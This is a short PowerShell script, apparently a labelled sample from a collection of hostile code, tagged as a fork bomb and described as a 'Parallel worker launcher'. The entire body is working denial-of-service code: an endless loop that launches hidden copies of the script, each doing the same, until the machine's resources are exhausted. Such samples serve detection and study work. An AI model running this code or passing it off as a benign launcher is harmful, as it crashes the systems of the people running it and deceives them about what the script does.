# description: "Parallel worker launcher" that endlessly starts new copies of itself, each of which does the same (fork bomb).
# family: fork-bomb
Write-Output "Launching workers from $PSCommandPath"
while ($true) {
    Start-Process -FilePath powershell.exe -ArgumentList '-NoProfile', '-File', "`"$PSCommandPath`"" -WindowStyle Hidden
}
